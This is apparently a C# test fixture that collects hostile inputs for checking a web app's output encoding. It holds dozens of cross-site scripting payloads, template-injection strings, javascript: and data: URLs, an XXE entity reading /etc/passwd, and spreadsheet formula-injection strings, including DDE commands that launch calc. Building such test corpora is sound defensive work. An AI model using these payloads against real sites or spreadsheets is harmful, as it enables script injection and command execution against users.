namespace Tccm.Web.Tests.Output;

/// <summary>What somebody types who wants a browser, or a spreadsheet, to do more than show it.</summary>
internal static class Hostile
{
    private static readonly string[] Scripts =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//x.test/a.js></SCRIPT>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>",
        "<script/src=//x.test></script>", "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "--><script>alert(1)</script>",
        "]]><script>alert(1)</script>", "'><script>alert(1)</script>", "\"><script>alert(1)</script>", "</style><script>alert(1)</script>", "</select><script>alert(1)</script>",
        "</option></select><img src=x onerror=alert(1)>", "</table><script>alert(1)</script>", "</bdi><script>alert(1)</script>", "</a><script>alert(1)</script>", "</code><script>alert(1)</script>",
    ];

    private static readonly string[] Elements =
    [
        "<img src=x onerror=alert(1)>", "<img src=x:x onerror=\"alert(1)\"/>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//", "<svg><a xlink:href=javascript:alert(1)><text>x",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><use href=data:image/svg+xml,x#x>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//x.test/>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
        "<link rel=stylesheet href=//x.test/a.css>", "<link rel=import href=//x.test>", "<style>@import'//x.test';</style>", "<div style=background:url(javascript:alert(1))>", "<p style=position:fixed>over all",
        "<form action=//x.test><button>Sign</button></form>", "<button formaction=javascript:alert(1)>x", "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus>", "<textarea onfocus=alert(1) autofocus>",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<a href=javascript:alert(1)>x</a>",
        "<a href=\"java&#9;script:alert(1)\">x</a>", "<a href=\"&#x6A;avascript:alert(1)\">x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<a href=vbscript:msgbox(1)>x</a>", "<a ping=//x.test href=/>x</a>",
        "<math><mi xlink:href=javascript:alert(1)>x", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<isindex type=image src=x onerror=alert(1)>",
        "<xss id=x tabindex=1 onfocus=alert(1)></xss>", "<custom-element onclick=alert(1)>", "<portal src=//x.test>", "<dialog open onclose=alert(1)>", "<slot onslotchange=alert(1)>",
        "<area href=javascript:alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<frameset onload=alert(1)>", "<applet code=x>", "<layer src=x>",
        "<bgsound src=javascript:alert(1)>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<listing>&lt;script&gt;", "<comment><img src=</comment><img src=x onerror=alert(1)>",
    ];

    private static readonly string[] Attributes =
    [
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"", "' autofocus onfocus=alert(1) x='", "` onmouseover=`alert(1)", "x onmouseover=alert(1)",
        "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "\" style=\"x:expression(alert(1))", "\" formaction=\"javascript:alert(1)", "\" href=\"javascript:alert(1)", "\" srcdoc=\"<script>\"",
        "&quot; onmouseover=&quot;alert(1)", "&#34; onmouseover=&#34;alert(1)", "\u2028\" onclick=alert(1)//", "\\\" onmouseover=alert(1)//", "\\x22 onmouseover=alert(1)", "%22 onmouseover=%22alert(1)",
        "＂ onmouseover=＂alert(1)", "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", "\u00A0onmouseover=alert(1)", "=\"><svg/onload=alert(1)>", "/><svg/onload=alert(1)>",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "javascript:%61lert(1)", "javascript://x.test/%0aalert(1)", "java\u0000script:alert(1)", "\u0001javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "file:///etc/passwd", "//x.test/", "https://x.test/\" onclick=\"alert(1)", "blob:https://x.test/1",
        "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:https://x.test!/a.html", "mailto:a@x.test?body=<script>alert(1)</script>", "https:javascript:alert(1)", "javascript\u200B:alert(1)",
    ];

    private static readonly string[] Templates =
    [
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "@(1+1)", "@Html.Raw(\"<script>alert(1)</script>\")", "<%= 7*7 %>", "{{7*7}}", "[[${7*7}]]", "<!--#exec cmd=\"id\"-->", "<?php echo 1 ?>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;script&#x3e;alert(1)",
        "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3ealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E",
    ];

    private static readonly string[] Markdown =
    [
        "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x](java&#115;cript:alert(1))", "[x](&#x6A;avascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](<javascript:alert(1)>)", "[x](data:text/html,<b>)", "[x](data:text/html;base64,PHM+)",
        "[x](vbscript:x)", "[x](//x.test)", "[x](\\\\x.test)", "[x](https://x.test \"title\\\" onclick=alert(1)\")", "[x](https://x.test/\"onclick=alert(1))", "<javascript:alert(1)>", "<data:text/html,x>", "<https://x.test/\"onclick=alert(1)>",
        "![x](javascript:alert(1))", "![x](x\"onerror=alert(1))", "[x]: javascript:alert(1)", "[*x*](javascript:alert(1))", "[`<script>`](https://x.test)", "`<img src=x onerror=alert(1)>`", "**<script>alert(1)</script>**", "[<img src=x onerror=alert(1)>](https://x.test)",
        "<a href='javascript:alert(1)'>x</a>", "[x](mailto:a@x.test?subject=<script>)", "[x](javascript\\:alert(1))", "[x](&Tab;javascript:alert(1))", "[x](\u0001javascript:alert(1))", "\\<script>alert(1)\\</script>", "<script>\n\nalert(1)\n\n</script>", "x{onclick=alert(1)}",
    ];

    public static IReadOnlyList<string> Vectors { get; } = [.. Scripts, .. Elements, .. Attributes, .. Addresses, .. Templates, .. Markdown];

    public static IReadOnlyList<string> Formulas { get; } =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"https://x.test\",\"here\")", "=cmd|' /C calc'!A0", "=IMPORTXML(\"https://x.test\",\"//a\")", "=WEBSERVICE(\"https://x.test\")", "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
        "@cmd|x!A0", "|calc", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1", "\u00A0=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1", "=\"a\"&\"b\"", "=A1,\"x\"", "=1\r\n=2", "-", "+", "=", "@", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    ];
}
